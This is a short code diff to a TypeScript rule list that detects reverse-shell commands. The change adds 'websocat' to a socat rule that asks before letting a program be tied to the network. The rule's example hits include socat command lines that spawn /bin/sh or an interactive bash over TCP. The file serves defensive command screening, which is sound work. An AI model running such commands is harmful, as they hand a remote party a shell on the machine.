@@ -47,7 +47,7 @@ export const REVERSE_SHELL_RULES: readonly Rule[] = [
     id: 'socat-program',
     severity: 'ask',
     reason: 'It connects a program of this machine to the network.',
-    commands: ['socat'],
+    commands: ['socat', 'websocat'],
     match: (run) => run.args.some((arg) => /^(exec|system|shell):/i.test(arg) || /,(exec|system):/i.test(arg)),
     examples: {
       hit: ['socat TCP:10.0.0.1:1 EXEC:/bin/sh', "socat tcp-listen:1 system:'bash -i'"],
